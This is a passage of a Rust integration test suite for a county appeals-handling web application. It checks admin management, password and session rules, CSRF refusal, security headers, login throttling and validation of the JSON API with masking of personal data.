        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = r.text().await.expect("body");
    assert!(body.contains("不能把它放在自身或其下级之下"), "{body}");
    // A file: one new unit, one unchanged, then the same file changes nothing; a bad
    // row names its line and writes nothing.
    let csv = "编码,名称,类型,上级,辖区,电话
t02-v1,柳林镇东村村委会,村委会,t02,370999002001,0539-7654321
t02-gzs,柳林镇群众工作室,群众工作室,t02,柳林镇,
";
    let (status, page) = app
        .upload("/staff/admin/units/import", &admin, csv, false)
        .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert!(page.contains("新建 1 · 修改 0 · 未变 1"), "{page}");
    let (_, page) = app
        .upload("/staff/admin/units/import", &admin, csv, false)
        .await;
    assert!(page.contains("新建 0 · 修改 0 · 未变 2"), "{page}");
    let (status, page) = app
        .upload(
            "/staff/admin/units/import",
            &admin,
            "key,name,kind,jurisdiction
x1,某单位,公司,火星
",
            false,
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        page.contains("第 2 行：kind") && page.contains("本县没有地区“火星”"),
        "{page}"
    );
    assert!(
        !app.store
            .units()
            .await
            .expect("units")
            .iter()
            .any(|u| u.key == "x1")
    );

    // Categories: an internal sub-category is offered to staff but not the public,
    // and the portal refuses it.
    let r = app
        .post(
            "/staff/admin/categories",
            &admin,
            &[
                ("code", "gongre-fee"),
                ("name", "供热收费"),
                ("parent", "gongre"),
                ("unit", "zjj"),
                ("keywords", "暖气费 供暖费"),
                ("fields", "room | 房号 | 文本 | 是"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let saved = app.store.categories().await.expect("categories");
    let fee = saved
        .iter()
        .find(|c| c.code == "gongre-fee")
        .expect("saved");
    assert!(!fee.public && fee.keywords == ["暖气费", "供暖费"] && fee.fields.len() == 1);
    let (_, form) = app.get("/submit", "").await;
    assert!(!form.contains("value=\"gongre-fee\""));
    let (_, intake) = app.get("/staff/intake", &admin).await;
    assert!(intake.contains("value=\"gongre-fee\""));
    let r = app
        .post("/submit", "", &portal_form(&[("category", "gongre-fee")]))
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // A public category whose requests are not published: offered, and so marked.
    let r = app
        .post(
            "/staff/admin/categories",
            &admin,
            &[
                ("code", "gongre-staff"),
                ("name", "供热站工作人员"),
                ("parent", "gongre"),
                ("unit", "zjj"),
                ("public", "1"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let saved = app.store.categories().await.expect("categories");
    let staff_cat = saved
        .iter()
        .find(|c| c.code == "gongre-staff")
        .expect("saved");
    assert!(staff_cat.public && !staff_cat.published);
    let (_, list) = app.get("/staff/admin/categories", &admin).await;
    assert!(list.contains("不公开"));
    // Three levels are refused.
    let r = app
        .post(
            "/staff/admin/categories",
            &admin,
            &[
                ("code", "deeper"),
                ("name", "更细"),
                ("parent", "gongre-fee"),
                ("unit", "zjj"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("body").contains("类别只有两级"));

    // Regions: add a village, rename it, retire it (the portal stops offering it),
    // restore it.
    let r = app
        .post(
            "/staff/admin/regions/save",
            &admin,
            &[
                ("code", "370999002009"),
                ("name", "新设村"),
                ("lat", "36.1"),
                ("long", "117.2"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let r = app
        .post(
            "/staff/admin/regions/save",
            &admin,
            &[("code", "370999002009"), ("name", "新设社区")],
        )
        .await;
    assert!(r.text().await.expect("body").contains("新设村 → 新设社区"));
    let r = app
        .post(
            "/staff/admin/regions/retire",
            &admin,
            &[("code", "370999002009"), ("action", "retire")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.text().await.expect("body").contains("已停用"));
    let (_, form) = app.get("/submit", "").await;
    assert!(!form.contains("370999002009"));
    let r = app
        .post(
            "/submit",
            "",
            &portal_form(&[("township", T2), ("village", "370999002009")]),
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    app.post(
        "/staff/admin/regions/retire",
        &admin,
        &[("code", "370999002009"), ("action", "restore")],
    )
    .await;
    let (_, form) = app.get("/submit", "").await;
    assert!(form.contains("370999002009"));

    // Calendar: a bad file names its line and changes nothing; a good one is in use
    // at once.
    let (status, page) = app
        .upload(
            "/staff/admin/calendar",
            &admin,
            "year 2030\nholiday 2030-02-30 春节\n",
            false,
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("第 2 行"), "{page}");
    assert!(
        !page.contains("2030、")
            && !app
                .store
                .calendar_files()
                .await
                .expect("files")
                .iter()
                .any(|f| f.contains("2030"))
    );
    let (status, page) = app
        .upload(
            "/staff/admin/calendar",
            &admin,
            "year 2030\nholiday 2030-01-01 元旦\n",
            false,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    assert!(between(&page, "data-test=\"calendar-years\">", "<").contains("2030"));
    assert_eq!(
        between(&page, "data-test=\"calendar-horizon\">", "<"),
        "2031-12-31"
    );
    assert!(
        between(&page, "data-test=\"calendar-gaps\">", "<").contains("2027、2028、2029"),
        "{page}"
    );

    // A GBK file reads too; a year without holidays is refused (it would wipe that
    // year's), even behind a byte-order mark.
    let (gbk, _, _) = encoding_rs::GBK.encode("year 2031\nholiday 2031-01-01 元旦\n");
    let (status, page) = app
        .upload("/staff/admin/calendar", &admin, &gbk, true)
        .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    let (status, page) = app
        .upload(
            "/staff/admin/calendar",
            &admin,
            "\u{feff}year 2032\n",
            false,
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.contains("2032 年没有列出任何假日"), "{page}");

    // Outsiders' findings: the county stays, an administrator keeps their own role, a
    // public sub-category of an internal one is not offered, a key a new township's
    // government would take is left alone, odd paths and methods get the usual pages.
    let r = app
        .post(
            "/staff/admin/regions/retire",
            &admin,
            &[("code", "370999000000"), ("action", "retire")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = r.text().await.expect("body");
    assert!(body.contains("不能停用本县"), "{body}");
    let me = app
        .store
        .staff_by_username("admin")
        .await
        .expect("admin")
        .expect("exists")
        .0;
    let r = app
        .post(
            &format!("/staff/admin/staff/{}", me.id),
            &admin,
            &[
                ("display_name", "管理员"),
                ("unit", "qzgzb"),
                ("role_handler", "1"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text()
            .await
            .expect("body")
            .contains("不能取消自己的管理员角色")
    );
    // Nor moves to a unit that would shrink their area, nor resets their own password
    // here (that is /staff/password, with the current one).
    let r = app
        .post(
            &format!("/staff/admin/staff/{}", me.id),
            &admin,
            &[
                ("display_name", "管理员"),
                ("unit", "t02"),
                ("role_admin", "1"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .post(&format!("/staff/admin/staff/{}/reset", me.id), &admin, &[])
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    app.post(
        "/staff/admin/categories",
        &admin,
        &[
            ("code", "hidden-top"),
            ("name", "内部大类"),
            ("unit", "zjj"),
        ],
    )
    .await;
    app.post(
        "/staff/admin/categories",
        &admin,
        &[
            ("code", "open-sub"),
            ("name", "公开小类"),
            ("parent", "hidden-top"),
            ("unit", "zjj"),
            ("public", "1"),
        ],
    )
    .await;
    let (_, form) = app.get("/submit", "").await;
    assert!(!form.contains("open-sub"));
    let squatter = [
        ("key", "gov-370999005000"),
        ("name", "抢注单位"),
        ("kind", "department"),
        ("jurisdiction", "370999000000"),
    ];
    assert_eq!(
        app.post("/staff/admin/units", &admin, &squatter)
            .await
            .status(),
        StatusCode::SEE_OTHER
    );
    let (status, page) = app
        .upload_regions(&admin, "code,name\n370999005000,新建镇\n", false)
        .await;
    assert_eq!(status, StatusCode::OK, "{page}");
    let units = app.store.units().await.expect("units");
    let kept = units
        .iter()
        .find(|u| u.key == "gov-370999005000")
        .expect("kept");
    assert_eq!(
        (kept.name.as_str(), kept.kind),
        ("抢注单位", UnitKind::Department)
    );
    let (status, page) = app.get("/staff/admin/staff/abc", &admin).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(page.contains("未找到"), "{page}");
    let r = app.post("/staff/admin", &admin, &[]).await;
    assert_eq!(r.status(), StatusCode::METHOD_NOT_ALLOWED);
    assert!(
        r.text()
            .await
            .expect("body")
            .contains("此页面不接受这种请求")
    );
    let r = app
        .post("/staff/admin/units/import", &admin, &[("file", "x")])
        .await;
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    assert!(r.text().await.expect("body").contains("无法识别"));

    assert!(
        app.store
            .verify_audit()
            .await
            .expect("audit")
            .first_bad
            .is_none()
    );
}

/// Logs in with a given password; returns the status, the redirect and the cookie.
async fn sign_in(app: &App, user: &str, password: &str) -> (StatusCode, String, String) {
    let r = app
        .post(
            "/staff/login",
            "",
            &[("username", user), ("password", password)],
        )
        .await;
    let location = r
        .headers()
        .get("location")
        .map(|l| l.to_str().expect("ascii").to_owned())
        .unwrap_or_default();
    let cookie = r
        .headers()
        .get("set-cookie")
        .map(|c| {
            c.to_str()
                .expect("ascii")
                .split(';')
                .next()
                .expect("cookie")
                .to_owned()
        })
        .unwrap_or_default();
    (r.status(), location, cookie)
}

#[tokio::test]
async fn administrators_manage_staff_and_people_choose_their_passwords() {
    let app = app("staffadmin").await;
    let admin = app.login("admin").await;
    let (status, page) = app.get("/staff/admin/staff?role=handler", &admin).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("zjj.handler") && !page.contains(">dispatcher1<"));

    // Bad input, each said beside its field.
    let bad = app
        .post(
            "/staff/admin/staff",
            &admin,
            &[
                ("username", "zjj.handler"),
                ("display_name", "重名"),
                ("unit", "zjj"),
                ("role_handler", "1"),
            ],
        )
        .await;
    assert_eq!(bad.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.text().await.expect("body").contains("已被占用"));
    let bad = app
        .post(
            "/staff/admin/staff",
            &admin,
            &[
                ("username", "张三"),
                ("display_name", ""),
                ("unit", "nowhere"),
            ],
        )
        .await;
    assert_eq!(bad.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = bad.text().await.expect("body");
    assert!(body.contains("登录名应为3至32位") && body.contains("此项必填"));

    // A new account gets a one-time password, to be changed at the first sign-in.
    let r = app
        .post(
            "/staff/admin/staff",
            &admin,
            &[
                ("username", "Wang.Handler"),
                ("display_name", "王新"),
                ("unit", "zjj"),
                ("role_handler", "1"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let page = r.text().await.expect("body");
    let once = between(&page, "data-test=\"one-time-password\">", "<");
    assert_eq!(once.len(), 14);
    let (status, next, cookie) = sign_in(&app, "wang.handler", &once).await;
    assert_eq!(
        (status, next.as_str()),
        (StatusCode::SEE_OTHER, "/staff/password")
    );
    let r = app
        .client
        .get(format!("{}/staff", app.base))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("get");
    assert_eq!(
        r.headers()["location"],
        "/staff/password",
        "nothing else first"
    );
    for (new, repeat, current, says) in [
        ("short", "short", once.as_str(), "密码长度应为10至128个字符"),
        ("onlyletterslong", "onlyletterslong", once.as_str(), "两类"),
        (
            "春风十里不如你2026",
            "春风十里不如你2027",
            once.as_str(),
            "不一致",
        ),
        (
            "春风十里不如你2026",
            "春风十里不如你2026",
            "wrong-password",
            "当前密码不正确",
        ),
    ] {
        let r = app
            .post(
                "/staff/password",
                &cookie,
                &[("current", current), ("new", new), ("repeat", repeat)],
            )
            .await;
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{says}");
        assert!(r.text().await.expect("body").contains(says), "{says}");
    }
    let r = app
        .post(
            "/staff/password",
            &cookie,
            &[
                ("current", &once),
                ("new", "春风十里不如你2026"),
                ("repeat", "春风十里不如你2026"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(app.get("/staff", &cookie).await.0, StatusCode::OK);
    assert_eq!(
        sign_in(&app, "wang.handler", &once).await.0,
        StatusCode::UNAUTHORIZED,
        "the one-time password is spent"
    );

    // Deactivation signs the person out at once; a reset gives a new one-time password.
    let id = app
        .store
        .staff_by_username("wang.handler")
        .await
        .expect("q")
        .expect("found")
        .0
        .id;
    let r = app
        .post(
            &format!("/staff/admin/staff/{id}/active"),
            &admin,
            &[("active", "0")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = app
        .client
        .get(format!("{}/staff", app.base))
        .header("cookie", &cookie)
        .send()
        .await
        .expect("get");
    assert_eq!(r.headers()["location"], "/staff/login");
    let r = app
        .post(
            &format!("/staff/admin/staff/{id}/active"),
            &admin,
            &[("active", "1")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = app
        .post(&format!("/staff/admin/staff/{id}/reset"), &admin, &[])
        .await;
    let page = r.text().await.expect("body");
    let again = between(&page, "data-test=\"one-time-password\">", "<");
    assert_eq!(
        sign_in(&app, "wang.handler", "春风十里不如你2026").await.0,
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        sign_in(&app, "wang.handler", &again).await.1,
        "/staff/password"
    );
    // Roles and unit can be changed.
    let r = app
        .post(
            &format!("/staff/admin/staff/{id}"),
            &admin,
            &[
                ("display_name", "王新"),
                ("unit", "slj"),
                ("role_handler", "1"),
                ("role_unit_head", "1"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app.get(&format!("/staff/admin/staff/{id}"), &admin).await;
    assert!(page.contains("name=\"role_unit_head\" value=\"1\" checked"));

    // A township administrator manages only that township's units and people.
    let page = app
        .post(
            "/staff/admin/staff",
            &admin,
            &[
                ("username", "t02.admin"),
                ("display_name", "柳林镇管理员"),
                ("unit", "t02"),
                ("role_admin", "1"),
            ],
        )
        .await
        .text()
        .await
        .expect("body");
    let pw = between(&page, "data-test=\"one-time-password\">", "<");
    let (_, _, town) = sign_in(&app, "t02.admin", &pw).await;
    let r = app
        .post(
            "/staff/password",
            &town,
            &[
                ("current", &pw),
                ("new", "柳林镇管理2026!"),
                ("repeat", "柳林镇管理2026!"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    let (_, list) = app.get("/staff/admin/staff", &town).await;
    assert!(list.contains("t02.head") && !list.contains("zjj.handler"));
    assert_eq!(
        app.get(&format!("/staff/admin/staff/{id}"), &town).await.0,
        StatusCode::NOT_FOUND
    );
    let r = app
        .post(
            "/staff/admin/staff",
            &town,
            &[
                ("username", "county.leader"),
                ("display_name", "越权"),
                ("unit", "qzgzb"),
                ("role_leader", "1"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().await.expect("body").contains("超出您管理的范围"));
    assert!(
        app.store
            .verify_audit()
            .await
            .expect("audit")
            .first_bad
            .is_none()
    );
}

#[tokio::test]
async fn writes_from_other_sites_are_refused() {
    let app = app("csrf").await;
    let (no, _) = app.submit(&[]).await;
    let handler = app.login("zjj.handler").await;
    let (_, version, _) = app.case_page(&handler, &no).await;
    let host = app.base.trim_start_matches("http://").to_owned();
    let send =
        |path: &str, headers: Vec<(&'static str, String)>, form: Vec<(&'static str, String)>| {
            let mut r = app
                .client
                .post(format!("{}{path}", app.base))
                .header("cookie", &handler)
                .form(&form);
            for (k, v) in headers {
                r = r.header(k, v);
            }
            r.send()
        };
    let act = vec![
        ("action", "sign_for".to_owned()),
        ("version", version.clone()),
    ];
    for headers in [
        vec![("origin", "https://evil.example".to_owned())],
        vec![("sec-fetch-site", "cross-site".to_owned())],
    ] {
        let r = send(
            &format!("/staff/appeals/{no}/act"),
            headers.clone(),
            act.clone(),
        )
        .await
        .expect("post");
        assert_eq!(r.status(), StatusCode::FORBIDDEN, "{headers:?}");
        assert!(r.text().await.expect("body").contains("请求来自其他网站"));
        for path in ["/submit", "/staff/login"] {
            let r = send(path, headers.clone(), vec![("text", "x".to_owned())])
                .await
                .expect("post");
            assert_eq!(r.status(), StatusCode::FORBIDDEN, "{path}");
        }
    }
    let (page, _, _) = app.case_page(&handler, &no).await;
    assert!(page.contains("待签收"), "nothing was recorded");
    // The same form from this site goes through.
    let r = send(
        &format!("/staff/appeals/{no}/act"),
        vec![
            ("origin", format!("http://{host}")),
            ("sec-fetch-site", "same-origin".to_owned()),
        ],
        act,
    )
    .await
    .expect("post");
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn every_page_carries_the_security_headers() {
    let app = app("headers").await;
    let (_, code) = app.submit(&[]).await;
    let cookie = app.login("zjj.handler").await;
    for (path, cookie, cached) in [
        ("/".to_owned(), "", false),
        (format!("/receipt/{code}"), "", false),
        ("/staff".to_owned(), cookie.as_str(), false),
        ("/nowhere".to_owned(), "", false),
        ("/static/app.css".to_owned(), "", true),
    ] {
        let r = app
            .client
            .get(format!("{}{path}", app.base))
            .header("cookie", cookie)
            .send()
            .await
            .expect("get");
        let h = r.headers();
        let csp = h["content-security-policy"].to_str().expect("ascii");
        assert!(
            csp.contains("frame-ancestors 'none'") && !csp.contains("unsafe-inline"),
            "{path}"
        );
        assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
        assert_eq!(h["referrer-policy"], "same-origin", "{path}");
        let cache = h["cache-control"].to_str().expect("ascii");
        assert_eq!(cache == "no-store", !cached, "{path}: {cache}");
    }
}

#[tokio::test]
async fn repeated_wrong_passwords_slow_down_further_tries() {
    // Behind a trusted proxy, each request says which address it came from.
    let app = app_with("throttle", |state| AppState {
        trusted_proxies: std::sync::Arc::new(vec!["127.0.0.1".parse().expect("ip")]),
        ..state
    })
    .await;
    let try_from = |from: &'static str, user: &'static str, password: &'static str| {
        let request = app
            .client
            .post(format!("{}/staff/login", app.base))
            .header("x-forwarded-for", from)
            .form(&[("username", user), ("password", password)]);
        async move { request.send().await.expect("post") }
    };
    for _ in 0..5 {
        let r = try_from("10.0.0.1", "zjj.handler", "wrong-password").await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    }
    // Now even the right password waits, from anywhere: the account's back-off is
    // checked first.
    let r = try_from("10.0.0.2", "zjj.handler", PASSWORD).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(
        r.headers()["retry-after"]
            .to_str()
            .expect("ascii")
            .parse::<i64>()
            .expect("n")
            >= 1
    );
    assert!(r.text().await.expect("body").contains("失败次数过多"));
    // The address that failed waits for every account; other accounts from other
    // addresses are not held up.
    let r = try_from("10.0.0.1", "slj.handler", PASSWORD).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    let r = try_from("10.0.0.3", "slj.handler", PASSWORD).await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn sessions_end_everywhere_else_and_by_an_administrator() {
    let app = app("sessions").await;
    let (here, elsewhere) = (
        app.login("zjj.handler").await,
        app.login("zjj.handler").await,
    );
    assert_eq!(app.get("/staff", &elsewhere).await.0, StatusCode::OK);
    let r = app.post("/staff/sessions/end-others", &here, &[]).await;
    assert_eq!(r.status(), StatusCode::OK);
    let page = r.text().await.expect("body");
    assert!(page.contains("已结束的其他会话：1"), "{page}");
    assert_eq!(app.get("/staff", &here).await.0, StatusCode::OK);
    let r = app
        .client
        .get(format!("{}/staff", app.base))
        .header("cookie", &elsewhere)
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::SEE_OTHER, "the other session ended");

    // The administrator's kill switch ends the account's sessions but keeps it active.
    let admin = app.login("admin").await;
    let id = app
        .store
        .staff_by_username("zjj.handler")
        .await
        .expect("q")
        .expect("exists")
        .0
        .id;
    let r = app
        .post(
            &format!("/staff/admin/staff/{id}/sessions/end"),
            &admin,
            &[],
        )
        .await;
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.text().await.expect("body").contains("已结束的会话：1"));
    let r = app
        .client
        .get(format!("{}/staff", app.base))
        .header("cookie", &here)
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let again = app.login("zjj.handler").await;
    assert_eq!(
        app.get("/staff", &again).await.0,
        StatusCode::OK,
        "still active"
    );
    // Nobody else can pull the switch.
    let r = app
        .post(
            &format!("/staff/admin/staff/{id}/sessions/end"),
            &again,
            &[],
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
}

impl App {
    /// A fresh API token for `user`.
    async fn token(&self, user: &str) -> String {
        let app = minsheng_app::App::new(self.store.clone());
        app.create_api_token(None, user, "test", None)
            .await
            .expect("token")
            .1
    }

    /// Calls the JSON API; returns the status and the JSON body.
    async fn api(
        &self,
        method: reqwest::Method,
        path: &str,
        token: &str,
        body: Option<serde_json::Value>,
    ) -> (StatusCode, serde_json::Value) {
        let mut request = self
            .client
            .request(method, format!("{}/api/v1{path}", self.base))
            .bearer_auth(token);
        if let Some(body) = body {
            request = request.json(&body);
        }
        let r = request.send().await.expect("api");
        let status = r.status();
        let text = r.text().await.expect("body");
        (
            status,
            serde_json::from_str(&text).unwrap_or_else(|_| panic!("not JSON ({status}): {text}")),
        )
    }
}

#[tokio::test]
async fn systems_send_and_follow_appeals_over_the_json_api() {
    use reqwest::Method;
    let app = app("api").await;
    let call = app.token("callcenter1").await;
    let handler = app.token("zjj.handler").await;

    // No token, a made-up one, a session cookie instead: 401 in the one error shape.
    for bad in ["", "mst_0000", "not-a-token"] {
        let (status, body) = app.api(Method::GET, "/appeals", bad, None).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{bad}");
        assert_eq!(body["error"]["code"], "unauthorized");
        assert!(
            body["error"]["message"]["zh-CN"]
                .as_str()
                .is_some_and(|m| m.contains("令牌"))
        );
        assert!(
            body["error"]["message"]["en"]
                .as_str()
                .is_some_and(|m| m.contains("token"))
        );
    }

    // A letter received three days ago, placed by names, with the sender's own id.
    let received = (chrono::Utc::now() - chrono::Duration::days(3)).to_rfc3339();
    let letter = serde_json::json!({
        "text": "小区楼道灯坏了一个月，老人晚上上下楼很危险",
        "category": "chengxiang",
        "township": "城关街道",
        "village": "幸福社区",
        "channel": "letter",
        "received_at": received,
        "external_id": "SW-2026-0001",
        "lat": 35.41,
        "long": 116.59,
        "name": "王秀英",
        "phone": "13912345678",
        "id_number": "110101199003078515",
    });
    let (status, created) = app
        .api(Method::POST, "/appeals", &call, Some(letter.clone()))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    assert_eq!(created["repeat"], false);
    let no = created["no"].as_str().expect("no").to_owned();
    // Sent again (a retry after a lost answer): the same receipt, nothing new.
    let (status, again) = app.api(Method::POST, "/appeals", &call, Some(letter)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        (again["no"].as_str(), again["repeat"].as_bool()),
        (Some(no.as_str()), Some(true))
    );

    // Read back: received when the letter came, routed, personal data masked.
    let (status, appeal) = app
        .api(Method::GET, &format!("/appeals/{no}"), &call, None)
        .await;
    assert_eq!(status, StatusCode::OK, "{appeal}");
    assert_eq!(appeal["region"], V11);
    assert_eq!(appeal["channel"], "letter");
    let at = chrono::DateTime::parse_from_rfc3339(appeal["received_at"].as_str().expect("time"))
        .expect("rfc3339");
    assert!((chrono::Utc::now() - at.with_timezone(&chrono::Utc)).num_hours() >= 71);
    assert_eq!(appeal["lead_unit"]["name"], "县住房和城乡建设局");
    assert_eq!(appeal["routing"]["reason"], "category_default");
    assert!(
        appeal["routing"]["explanation"]["zh-CN"]
            .as_str()
            .is_some_and(|e| e.contains("默认"))
    );
    assert_eq!(
        (appeal["lat"].as_f64(), appeal["long"].as_f64()),
        (Some(35.41), Some(116.59))
    );
    assert_eq!(appeal["appellant"]["name"], "王**");
    let text = appeal.to_string();
    for secret in ["13912345678", "110101199003078515", "秀英"] {
        assert!(!text.contains(secret), "{secret} leaked: {text}");
    }
    assert!(appeal["deadline"].is_object() || appeal["deadline"].is_null());

    // Bad input: each field named, in both languages, nothing stored.
    let before = app.store.counts().await.expect("counts").appeals;
    let (status, body) = app
        .api(
            Method::POST,
            "/appeals",
            &call,
            Some(serde_json::json!({
                "text": "", "category": "nope", "region": V11, "channel": "fax",
            })),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let fields: Vec<&str> = body["error"]["fields"]
        .as_array()
        .expect("fields")
        .iter()
        .filter_map(|f| f["field"].as_str())
        .collect();
    for f in ["text", "category", "channel"] {
        assert!(fields.contains(&f), "{f} not named: {body}");
    }
    for (bad, want) in [
        (
            serde_json::json!({"text": "x", "category": "chengxiang", "channel": "hotline"}),
            "region",
        ),
        (
            serde_json::json!({"text": "x", "category": "chengxiang", "channel": "hotline", "region": V11, "lat": 35.0}),
            "lat",
        ),
        (
            serde_json::json!({"text": "x", "category": "chengxiang", "channel": "hotline", "region": V11, "lat": 135.0, "long": 117.0}),
            "lat",
        ),
        (
            serde_json::json!({"text": "x", "category": "chengxiang", "channel": "hotline", "village": "无此村"}),
            "village",
        ),
        (
            serde_json::json!({"text": "x", "category": "chengxiang", "channel": "hotline", "region": V11,
            "received_at": (chrono::Utc::now() + chrono::Duration::days(2)).to_rfc3339()}),
            "received_at",
        ),
    ] {
        let (status, body) = app.api(Method::POST, "/appeals", &call, Some(bad)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
        assert_eq!(body["error"]["field"], want, "{body}");
    }
    // Unknown fields, wrong types, broken JSON, no JSON at all.
    let (status, body) = app
        .api(
            Method::POST,
            "/appeals",
            &call,
            Some(serde_json::json!({"text": "x", "secret_admin": true})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(
        body["error"]["message"]["en"]
            .as_str()
            .is_some_and(|m| m.contains("secret_admin"))
    );
    assert_eq!(body["error"]["field"], "secret_admin", "the field is named");
    let (status, body) = app
        .api(
            Method::POST,
            "/appeals",
            &call,
            Some(serde_json::json!({"text": 5})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(body["error"]["field"], "text", "{body}");
    let r = app
        .client
        .post(format!("{}/api/v1/appeals", app.base))
        .bearer_auth(&call)
        .header("content-type", "application/json")
        .body("{\"text\": ")
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::BAD_REQUEST);
    let r = app
        .client
        .post(format!("{}/api/v1/appeals", app.base))
        .bearer_auth(&call)
        .body("text=x")
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    let body: serde_json::Value = r.json().await.expect("json");
    assert_eq!(body["error"]["code"], "unsupported_media_type");
    assert_eq!(app.store.counts().await.expect("counts").appeals, before);

    // Outsider findings: a time before 2000 (or a year before 0, which made an unreadable
    // number and broke every list); an id with control characters; a value of the wrong
    // type is named, never echoed; the same id with other content is refused (409); the
    // same id from another sender is another appeal; BEARER in capitals works.
    for when in ["-0001-01-01T00:00:00Z", "1900-01-01T00:00:00Z"] {
        let (status, body) = app
            .api(Method::POST, "/appeals", &call, Some(serde_json::json!({
                "text": "x", "category": "chengxiang", "region": V11, "channel": "hotline", "received_at": when,
            })))
            .await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{when}: {body}");
    }
    let (status, body) = app
        .api(Method::POST, "/appeals", &call, Some(serde_json::json!({
            "text": "x", "category": "chengxiang", "region": V11, "channel": "hotline", "external_id": "a\u{1}b",
        })))
        .await;
    assert_eq!(
        (status, body["error"]["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("external_id"))
    );
    let (status, body) = app
        .api(Method::POST, "/appeals", &call, Some(serde_json::json!({
            "text": "x", "category": "chengxiang", "region": V11, "channel": "hotline", "phone": 13912345678_u64,
        })))
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        !body.to_string().contains("13912345678") && body.to_string().contains("phone"),
        "{body}"
    );
    let (status, body) = app
        .api(Method::POST, "/appeals", &call, Some(serde_json::json!({
            "text": "另一件事", "category": "chengxiang", "region": V11, "channel": "letter", "external_id": "SW-2026-0001",
        })))
        .await;
    assert_eq!(
        (status, body["error"]["field"].as_str()),
        (StatusCode::CONFLICT, Some("external_id")),
        "{body}"
    );
    let dispatcher = app.token("dispatcher1").await;
    let (status, theirs) = app
        .api(Method::POST, "/appeals", &dispatcher, Some(serde_json::json!({
            "text": "调度员转来的另一件事", "category": "chengxiang", "region": V11, "channel": "hotline", "external_id": "SW-2026-0001",
        })))
        .await;
    assert_eq!(status, StatusCode::CREATED, "{theirs}");
    assert_ne!(theirs["no"].as_str(), Some(no.as_str()));
    let r = app
        .client
        .get(format!("{}/api/v1/units", app.base))
        .header("authorization", format!("BEARER {call}"))
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), StatusCode::OK);
    let r = app
        .client
        .delete(format!("{}/api/v1/units", app.base))
        .bearer_auth(&call)
        .send()
        .await
        .expect("delete");
    assert_eq!(r.status(), StatusCode::METHOD_NOT_ALLOWED);
    let body: serde_json::Value = r.json().await.expect("json 405");
    assert_eq!(body["error"]["code"], "method_not_allowed");

    // A handler may not register, and sees only their unit's cases.
    let (status, _) = app
        .api(
            Method::POST,
            "/appeals",
            &handler,
            Some(serde_json::json!({"text": "x", "category": "chengxiang", "region": V11, "channel": "hotline"})),
        )
        .await;
